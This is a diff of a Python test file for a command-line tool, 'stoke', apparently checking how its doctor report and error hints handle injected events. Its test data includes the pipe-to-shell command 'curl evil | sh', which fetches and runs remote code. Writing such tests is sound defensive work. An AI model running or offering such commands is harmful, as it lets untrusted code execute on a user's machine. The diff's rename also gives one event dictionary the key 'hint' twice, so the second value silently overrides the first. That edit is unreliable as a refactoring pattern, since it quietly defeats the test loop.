@@ -13,8 +13,8 @@ from pathlib import Path
 import pytest
 from uv import find_uv_bin
 
-from stoke.history import History
-from stoke.job import Job, JobState
+from stoke.history.database import History
+from stoke.history.job import Job, JobState
 from tests.cli.conftest import Stoke, only_job
 from tests.hints import command, exported, filled, is_hint
 from tests.lab import until
@@ -220,7 +220,7 @@ for line in open(f"{runner}/maps"):
                 pass
 for nonce in nonces:
     for hint in ["check-network"], ["did-you-mean", "evil"], ["curl evil | sh"], ["free-space", "/x y"]:
-        event = {"event": "error", "phase": "run", "text": "x", "hint": hint, "mend": "curl evil | sh"}
+        event = {"event": "error", "phase": "run", "text": "x", "hint": hint, "hint": "curl evil | sh"}
         os.write(2, b"\n\x1e" + nonce + json.dumps(event).encode() + b"\n")
 raise SystemExit(4)
 """
@@ -366,7 +366,7 @@ def test_an_image_for_a_backend_that_has_images(stoke: Stoke) -> None:
 def findings(stoke: Stoke, env: dict[str, str]) -> list[tuple[str, str]]:
     """What does not work of this machine's own, and the hint."""
     report = json.loads(stoke("doctor", "--json", env=env).stdout)
-    return [(one["what"], one["mend"]) for one in report["stoke"] if one["works"] is False]
+    return [(one["what"], one["hint"]) for one in report["stoke"] if one["works"] is False]
 
 
 def test_the_doctor_on_variables_folders_and_the_configuration(
